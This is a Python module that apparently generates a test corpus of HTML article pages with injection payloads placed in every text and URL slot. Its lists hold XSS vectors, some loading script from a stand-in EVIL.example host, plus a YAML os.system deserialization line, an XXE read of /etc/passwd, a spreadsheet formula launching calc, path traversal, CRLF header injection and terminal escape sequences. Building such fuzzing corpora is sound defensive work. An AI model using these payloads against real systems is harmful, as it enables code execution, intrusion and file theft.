"""What pages try to break out with, and pages full of it.

A payload is a text; TEXTS are put where a page has words, URLS where it has addresses, and each
of both where the other is expected, too. `page` puts one into every place of a page that reaches
an output: with the characters that HTML needs escaped, as it stands, or by references alone, which
let through what the source cannot hold.

The word EVIL stands where something would be run or asked for, so that it can be looked for.
"""
import html

SCRIPTS = [
    '<script>EVIL()</script>', '</title><script>EVIL()</script>', '"><script src=//EVIL.example></script>',
    "'><img src=x onerror=EVIL()>", '<svg onload=EVIL()>', '<svg><style><img src=x onerror=EVIL()></style></svg>',
    '<iframe srcdoc="<script>EVIL()</script>">', '<math><mtext></form><form><mglyph><style></math><img src onerror=EVIL()>',
    '<a href=javascript:EVIL()>x</a>', '" onmouseover="EVIL()', "' onmouseover='EVIL()", '` onmouseover=EVIL()',
    '</style><style>@import "//EVIL"', '<style>*{background:url(//EVIL)}</style>', '<base href=//EVIL.example/>',
    '<meta http-equiv=refresh content="0;url=//EVIL">', '<link rel=stylesheet href=//EVIL>', '<object data=EVIL>',
    '<template><script>EVIL()</script></template>', '<noscript><p title="</noscript><img src=x onerror=EVIL()>">',
    '</pre></code><script>EVIL()</script>', '</article></body></html><script>EVIL()</script>', '</textarea><script>EVIL()</script>',
    '<!--><script>EVIL()</script>-->', '--><script>EVIL()</script><!--', '--!><script>EVIL()</script>', '<![CDATA[<script>EVIL()</script>]]>',
    ']]><script>EVIL()</script>', '<?xml-stylesheet href="//EVIL"?>', '<?php EVIL(); ?>', '<% EVIL %>', '{{EVIL}}', '${EVIL}', '`EVIL`',
    '<script\n>EVIL()</script\n>', '<SCRIPT>EVIL()</SCRIPT>', '<scr\0ipt>EVIL()</scr\0ipt>', '\uff1cscript\uff1eEVIL()', '+ADw-script+AD4-EVIL()',
    '\u00bcscript\u00beEVIL()', '</script\u2028><script>EVIL()', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">EVIL()</x:script>',
]
MARKDOWN = [
    '](javascript:EVIL())', '[x](javascript:EVIL())', '![x](javascript:EVIL())', '[x]: javascript:EVIL()', '<javascript:EVIL()>',
    '](<javascript:EVIL()>)', '[x](javascript&colon;EVIL())', '[x](data:text/html;base64,EVIL)', ') [x](vbscript:EVIL)',
    '[^1]: EVIL', '[^EVIL]', '`', '``', '```', '`````', '````````````', '~~~', '~~~~~~', '`` ` ``', '```\n<script>EVIL()</script>\n```',
    '\n```\n<script>EVIL()</script>', '\n\n<script>EVIL()</script>\n\n', '\n    <b>EVIL</b>', '\\', '\\\\', '\\`', '\\](x)', '\\<b>EVIL</b>',
    '*', '**', '***x***', '__', '~~', '|', '\\|', '| a | b |\n|---|---|', '> EVIL', '# EVIL', '#', '###### #', '- EVIL', '1. EVIL',
    '=====', '-----', '***', '\n---\n', '\n===\n', '\n# EVIL\n', '\n> EVIL', '\n- EVIL', '\n1. EVIL', '\t\t<b>EVIL</b>', '&lt;script&gt;EVIL()',
    '&#60;script>EVIL()', '&NewLine;# EVIL', '<!-- EVIL', '<b', '<', '&', '!', '![', '<http://EVIL.example>', '<EVIL@example.org>', '<div>\nEVIL',
]
YAML = [
    '---', '...', '\n---\n', '\n...\n', '--- EVIL', ': ', 'EVIL: true', '\nEVIL: true', '"\nEVIL: true\n"', "'\nEVIL: true", '!!python/object/apply:os.system ["EVIL"]',
    '!!python/object:EVIL', '!<tag:yaml.org,2002:binary> EVIL', '&anchor EVIL', '*anchor', '<<: *anchor', '%YAML 1.1', '? EVIL', '- EVIL', '| EVIL', '>\n EVIL',
    '{EVIL: 1}', '[EVIL]', '# EVIL', 'x #EVIL', '"EVIL', "'EVIL", 'yes', 'No', 'null', '~', '0x1F', '0o17', '1e3', '.inf', '.nan', '1:30', '2020-01-01', '1_000',
    '=', '<<', 'on', 'true', '\x85EVIL: true', '\u2028EVIL: true', '\u2029- EVIL', '\\x22\\nEVIL: true', '\\', '"', '\\"',
]
MARKUP = [
    ']]>', '<!ENTITY x SYSTEM "file:///etc/passwd">&x;', '<!DOCTYPE x [<!ENTITY a "EVIL">]>', '&EVIL;', '&#x0;', '&#xFFFE;', '&amp;#60;', '<?xml version="1.0"?>',
    '</text></TEI>', '</p></body></text></TEI>', '</content></entry><entry>', '</description></item><item>', '"/><outline text="EVIL', '" xmlns:x="EVIL',
]
CONTROLS = [
    '\0', 'x\0EVIL', '\x1b[31mEVIL\x1b[0m', '\x1b]8;;http://EVIL.example/\x1b\\x\x1b]8;;\x1b\\', '\x1b]52;c;RVZJTA==\x07', '\x1bP+q544e\x1b\\', '\x1b]0;EVIL\x07', '\x1bc',
    '\x1b[2J\x1b[H', '\x9b31m', '\x9d52;c;RVZJTA==\x9c', '\x90q\x9c', '\x1b[200~EVIL\n\x1b[201~', '\x07', '\b\b\bEVIL', '\rEVIL', '\x0b\x0c', '\x7f', '\x85', '\x01\x02\x1f',
    '\x0e\x0f', '\u202eLIVE', '\u202a\u202b\u202c\u202d', '\u2066EVIL\u2069', '\u2067\u2068', '\u200e\u200f\u061c', '\u2028EVIL', '\u2029EVIL', '\ufeffEVIL', '\ufffe', '\uffff',
    '\U0001fffe\U0010ffff', '\ufdd0', '\u00ad', '\u200b\u200c\u200d', '\u2060\u2063', '\U000e0041\U000e0042', '\U000f0000', '\ufff9EVIL\ufffa\ufffb', '\u115f\u3164', '\ud800', '\udfff', '\ud83d\ude00',
]
TABLES = ['=cmd|\' /C calc\'!A0', '+EVIL', '-EVIL', '@EVIL', '=HYPERLINK("http://EVIL")', '"', '""', '","', '\t', 'a\tb', 'a\nb', 'a\r\nb', "'=1+1", ';', ',']
NAMES = [
    '../', '../../../../../etc/passwd', '..', '.', '/', '/etc/passwd', '..\\..\\EVIL', 'C:\\EVIL', '\\\\EVIL\\share', 'con', 'CON', 'nul', 'aux.txt', 'com1', 'lpt9.x', '.hidden', '..hidden',
    'EVIL.', 'EVIL...', 'EVIL ', ' EVIL', '-EVIL', '--help', '-rf /', '~', '~root', '$HOME', '$(EVIL)', '`EVIL`', '%2e%2e%2f', '%2e%2e/', '..%2f..%2fEVIL', '..%c0%afEVIL', '%00', 'x%00.md', '*', '?', ':', 'a:b',
    'a' * 300, '\u6f22' * 300, '\U0001f600' * 100, 'e\u0301' * 200, 'desktop.ini', '.git/config', '.htaccess', 'index.html', 'con.md', '\u2025\u2025/', '\uff0e\uff0e\uff0f',
]
HEADERS = [
    '\r\nX-EVIL: 1', '\nX-EVIL: 1', '\rX-EVIL: 1', '\r\n\r\nEVIL', '\n\nEVIL', '\r\n EVIL', '\nFrom EVIL@example.org Sat Nov 21 08:30:00 2026\n', 'From EVIL Sat Nov 21 08:30:00 2026', '\n\nFrom EVIL Sat Nov 21 08:30:00 2026\n\nEVIL',
    '>From EVIL', '\n>From EVIL', '\n.\n', '\n.\r\nQUIT', '=?utf-8?q?EVIL?=', '=?utf-8?b?RVZJTA==?=', '=0AFrom EVIL', '" <EVIL@example.org>', '>, <EVIL@example.org', 'EVIL@example.org,', '\r\n--boundary\r\n', '\r\n\r\nHTTP/1.1 200 OK\r\n\r\nEVIL',
    '\r\n\r\nWARC/1.1\r\nWARC-Type: response\r\nContent-Length: 4\r\n\r\nEVIL\r\n\r\n', '\r\nWARC-Target-URI: http://EVIL.example/', '\r\n\r\n\r\nWARC/1.0\r\n', '\r\nContent-Length: 0', '\0\r\n',
]
JSON = ['"}', '","EVIL":"', '\\', '\\"', '\\u0022', '"}\n{"EVIL":1}', '"}</script><script>EVIL()', '\\u2028', '*/EVIL()/*', '//EVIL']

URLS = [
    'javascript:EVIL()', 'JaVaScRiPt:EVIL()', ' javascript:EVIL()', '\x01javascript:EVIL()', 'java\tscript:EVIL()', 'java\nscript:EVIL()', 'java\rscript:EVIL()', 'javascript\t:EVIL()', 'javascript&colon;EVIL()', 'java&Tab;script:EVIL()',
    'javascript&#58;EVIL()', '\0javascript:EVIL()', 'java\0script:EVIL()', '\u00a0javascript:EVIL()', '\u2028javascript:EVIL()', '\ufeffjavascript:EVIL()', '\u200bjavascript:EVIL()', 'javascript://example.org/%0aEVIL()', 'javascript:%0aEVIL()',
    'data:text/html,<script>EVIL()</script>', 'data:text/html;base64,RVZJTA==', 'DATA:image/svg+xml,<svg onload=EVIL()>', 'vbscript:EVIL', 'view-source:javascript:EVIL()', 'blob:http://EVIL/x', 'file:///etc/passwd', 'filesystem:http://EVIL/', 'about:blank',
    'feed:javascript:EVIL()', 'jar:http://EVIL!/', 'ms-word:ofe|u|http://EVIL', 'tel:1;javascript:EVIL()', 'mailto:a@example.org?subject=x%0d%0aBcc:EVIL', 'mailto:a@example.org\r\nBcc: EVIL', 'http:javascript:EVIL()', 'http:/\\EVIL', 'https:EVIL',
    '//EVIL.example/', '\\\\EVIL.example\\', '/\\EVIL.example', '///EVIL.example', 'http://EVIL.example\\@example.org/', 'http://example.org@EVIL.example/', 'http://user:pass@EVIL.example/', 'http://example.org/"onmouseover="EVIL()',
    "http://example.org/'onmouseover='EVIL()", 'http://example.org/><script>EVIL()</script>', 'http://example.org/)[x](javascript:EVIL())', 'http://example.org/>)[x](javascript:EVIL())', 'http://example.org/ "x" onload="EVIL()', 'http://example.org/`x`', 'http://example.org/\\',
    'http://example.org/\\)', 'http://example.org/&#x29;', 'http://example.org/&quot;&gt;', 'http://example.org/a b', 'http://example.org/\nEVIL', 'http://example.org/\r\nX-EVIL: 1', 'http://example.org/\0EVIL', 'http://example.org/\x1b[31m', 'http://example.org/\x9b31m',
    'http://example.org/\u202eEVIL', 'http://example.org/\u2028', 'http://example.org/|', 'http://example.org/<EVIL>', 'http://example.org/]]>', 'http://example.org/-->', 'http://example.org/%', 'http://example.org/%0d%0aX-EVIL:%201', 'http://example.org/?a=1&b=2&copy;=3',
    'http://example.org/#EVIL', 'http://example.org/*_~', 'http://EVIL\u2028.example/', 'http://EVIL .example/', 'http://EVIL"onload=.example/', 'http://<script>EVIL()</script>/', 'http://[::1]"onload=EVIL()/', 'http://example.org:80"EVIL/', 'http://\u202eEVIL/',
    'http://example.org/' + 'x' * 9000, 'ftp://EVIL.example/"', '?"><script>EVIL()</script>', '#"><script>EVIL()</script>', '"><script>EVIL()</script>', '../../../../x', '', '#', '?', 'x:y', 'http://', 'http:///', 'http://\ud800/', '{{EVIL}}', '{% EVIL %}',
]

TEXTS = SCRIPTS + MARKDOWN + YAML + MARKUP + CONTROLS + TABLES + NAMES + HEADERS + JSON

PROSE = ('It rained all night, and in the morning the river had left its bed and stood in the streets of the lower '
         'town, where nobody had expected it, though everybody had talked of little else for days.')


def escaped(text):
    """As HTML text and in an attribute between double quotes; what HTML cannot hold raw is left out by references."""
    return ''.join(f'&#{ord(c)};' if c in '\0\r' or '\ud800' <= c <= '\udfff' else c for c in html.escape(text))


def as_it_stands(text):
    return text


def by_references(text):
    return ''.join(f'&#x{ord(c):x};' for c in text)


WAYS = {'escaped': escaped, 'raw': as_it_stands, 'referenced': by_references}


def json_string(text):
    """Within a string of JSON, within a script."""
    return ''.join(f'\\u{ord(c):04x}' if ord(c) < 0x10000 else c for c in text)


def addresses(text):
    """A payload as an address, and as a part of one."""
    return [text, 'http://example.org/' + text, 'http://example.org/?' + text, '/' + text]


def head(text, put, address):
    t, a = put(text), put(address)
    j = json_string(text)
    metas = [f'<meta name="{n}" content="{n} {t}">' for n in ('author', 'description', 'keywords', 'dc.creator', 'generator', 'news_keywords', 'dcterms.rights')]
    metas += [f'<meta property="{n}" content="{n} {t}">' for n in ('og:site_name', 'og:description', 'article:tag', 'article:author', 'og:locale', 'article:section')]
    metas += [f'<meta property="{n}" content="{a}">' for n in ('og:image', 'og:url')]
    dates = [f'<meta property="article:published_time" content="2020-01-02T03:04:05Z{t}">', f'<meta name="last-modified" content="{t} 2020-02-03">']
    return f'''<title>The river {t} rises</title>{''.join(metas)}{''.join(dates)}
<link rel=canonical href="{a}"><link rel=license href="{a}"><link rel="image_src" href="{a}"><link rel=author href="{a}">
<script type="application/ld+json">{{"@type":"NewsArticle","headline":"The river {j} rises","author":{{"@type":"Person","name":"Ada {j}","url":"{j}"}},
"datePublished":"2020-01-02{j}","inLanguage":"en{j}","keywords":["{j}","b"],"image":"{json_string(address)}","publisher":{{"name":"Daily {j}"}},"license":"{json_string(address)}"}}</script>'''


def body(text, put, address):
    t, a = put(text), put(address)
    return f'''<h1>The river {t} rises</h1><p class="byline">By <a rel=author href="{a}">Ada {t}</a> <time datetime="2020-01-02{t}">2 January {t}</time></p>
<p>{PROSE} In words {t} it says. {PROSE}</p><p>{t} begins this line. {PROSE}</p><p>{PROSE} This line ends so: {t}</p><p>{PROSE}<br>{t}<br>after it. {PROSE}</p>
<p>{PROSE} A <a href="{a}" title="{t}">link {t}</a> and <a href="http://example.org/x">{t}</a>, <em>{t}</em> and <strong>{t}</strong>, <code>{t}</code>, <q cite="{a}">{t}</q>, <del>{t}</del>,
<sub>{t}</sub><sup>{t}</sup>, <abbr title="{t}">A</abbr>, <ruby>b<rt>{t}</rt></ruby>, <span lang="{t}" id="{t}" class="{t}">{t}</span>.</p>
<h2>A heading {t}</h2><p>{PROSE}</p><h3>{t}</h3><p>{PROSE}</p>
<figure><img src="{a}" alt="A picture {t}" title="{t}" srcset="{a} 2x"><figcaption>A caption {t} below. {PROSE}</figcaption></figure><p>{PROSE} <img src="/i.png" alt="{t}"></p>
<pre class="brush: {t} language-{t}"><code class="language-{t}">int first(void);\n{t}\n  {t}\nint last(void);\n</code></pre><p>{PROSE}</p>
<ul><li>{t} and an item. {PROSE}</li><li>An item: {t}<ul><li>{t}</li></ul></li></ul><ol start="3{t}"><li>One {t}</li><li>{PROSE}</li></ol>
<dl><dt>Term {t}</dt><dd>{PROSE} {t}</dd></dl><blockquote cite="{a}"><p>{t} was said. {PROSE}</p></blockquote>
<table><caption>Table {t}</caption><tr><th>{t}</th><th>Head {t}</th></tr><tr><td>{t}</td><td colspan="1{t}">A cell {t}</td></tr><tr><td>{PROSE}</td><td>{t}</td></tr></table>
<p>{PROSE} <math alttext="{t}"><mi>x</mi><annotation encoding="application/x-tex">{t}</annotation></math><sup><a href="#fn{t}">1</a></sup></p>
<p>{PROSE}</p><ol><li id="fn{t}">A note {t}. {PROSE} <a href="#ref">\u21a9</a></li></ol><p>{PROSE}</p>'''


def page(text, way='escaped', address=None, language='en'):
    """A page with the payload everywhere: bytes. address: what stands for addresses, if not the same."""
    put = WAYS[way]
    address = text if address is None else address
    source = (f'<!DOCTYPE html><html lang="{put(language)}"><head><meta charset=utf-8>{head(text, put, address)}</head>'
              f'<body><article>{body(text, put, address)}</article></body></html>')
    return source.encode('utf-8', 'surrogatepass')


def corpus(whole):
    """(name, text, way, page) of each: all of it, or a sample that has every payload once."""
    number = 0
    for i, text in enumerate(TEXTS + URLS):
        ways = list(WAYS) if whole else [list(WAYS)[i % 3]]
        for way in ways:
            for address in addresses(text) if whole else [addresses(text)[i % 4] if i < len(TEXTS) else text]:
                yield f'{number:05}', text, way, page(text, way, address, 'en' + text if i % 2 else text)
                number += 1
